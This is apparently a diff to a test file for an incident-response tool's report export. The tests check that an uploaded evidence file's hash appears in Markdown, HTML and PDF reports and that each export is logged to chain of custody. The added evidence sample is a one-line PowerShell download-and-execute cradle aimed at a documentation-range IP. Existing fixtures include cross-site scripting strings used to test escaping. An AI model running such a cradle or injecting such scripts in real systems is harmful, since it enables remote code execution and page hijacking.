@@ -1,4 +1,5 @@
 import { execFileSync } from 'node:child_process'
+import { createHash } from 'node:crypto'
 import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -18,6 +19,9 @@ const HOSTILE_NOTE = [
   '[click me](javascript:alert(3))',
 ].join('\n\n')
 
+const EVIDENCE = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")\n')
+const EVIDENCE_SHA256 = createHash('sha256').update(EVIDENCE).digest('hex')
+
 const INCIDENT_HEADINGS = [
   'Description',
   'Impact',
@@ -27,6 +31,7 @@ const INCIDENT_HEADINGS = [
   'Tasks',
   'Follow-up actions',
   'Observables',
+  'Evidence',
   'Notes',
 ]
 const RCA_HEADINGS = [
@@ -51,10 +56,11 @@ for (const engine of ENGINES) {
     let analyst: string
     let incidentId: number
     let work: string
+    let evidenceId: number
     beforeAll(async () => {
-      server = await startTestServer(engine)
-      analyst = await server.tokenFor('analyst')
       work = await mkdtemp(join(tmpdir(), 'wf-report-'))
+      server = await startTestServer(engine, { dataDir: work })
+      analyst = await server.tokenFor('analyst')
       const post = async <T>(path: string, body: unknown, method = 'POST'): Promise<T> => {
         const response = await server.request(path, { method, token: analyst, body: JSON.stringify(body) })
         const json = (await response.json()) as T
@@ -80,6 +86,14 @@ for (const engine of ENGINES) {
         title: 'Block SMB from workstations to servers',
         owner: 'netops',
       })
+      const uploaded = await server.request(`/api/v1/incidents/${incidentId}/evidence?name=stager.ps1`, {
+        method: 'POST',
+        token: analyst,
+        headers: { 'content-type': 'application/octet-stream' },
+        body: Uint8Array.from(EVIDENCE),
+      })
+      expect(uploaded.status).toBe(201)
+      evidenceId = ((await uploaded.json()) as { id: number }).id
       await post(`/api/v1/incidents/${incidentId}/rca`, {})
       await post(
         `/api/v1/incidents/${incidentId}/rca`,
@@ -117,6 +131,7 @@ for (const engine of ENGINES) {
         expect(text).toMatch(new RegExp(`^#+ ${heading}$`, 'm'))
       expect(text).toContain('**TLP:AMBER**')
       expect(text).toContain(LONG_WORD)
+      expect(text).toContain(`| stager.ps1 | \`${EVIDENCE_SHA256}\` |`)
       expect(text).toContain('| Timeline row 70')
       expect(text).toContain('Flat network between workstations and servers.')
       expect(text).toMatch(/\| \d+ \| Block SMB from workstations to servers \| netops \|/)
@@ -153,6 +168,7 @@ for (const engine of ENGINES) {
       expect(text).toContain(`Page ${pages} of ${pages}`)
       expect(text.match(/TLP:AMBER/g)?.length ?? 0).toBeGreaterThanOrEqual(pages * 2)
       expect(text).toContain('<script>alert(1)</script>')
+      expect(squash(text)).toContain(EVIDENCE_SHA256)
 
       execFileSync('pdftoppm', ['-png', '-r', '50', pdf, join(work, 'page')])
       const images = (await readdir(work)).filter((name) => name.startsWith('page') && name.endsWith('.png'))
@@ -197,6 +213,20 @@ for (const engine of ENGINES) {
         .execute()
       const formats = rows.map((row) => (row.details as { format: string }).format)
       expect(formats).toEqual(expect.arrayContaining(['md', 'html', 'pdf']))
+      // Listing the evidence with its hash in a report is an export in its chain of custody.
+      const custody = await server.services.store.db
+        .selectFrom('evidence_custody')
+        .select(['action', 'reason'])
+        .where('evidence_id', '=', evidenceId)
+        .where('action', '=', 'export')
+        .execute()
+      expect(custody.map((row) => row.reason)).toEqual(
+        expect.arrayContaining([
+          'listed in the incident report (md)',
+          'listed in the incident report (html)',
+          'listed in the incident report (pdf)',
+        ]),
+      )
     })
 
     it('exports a PDF through the CLI', async () => {
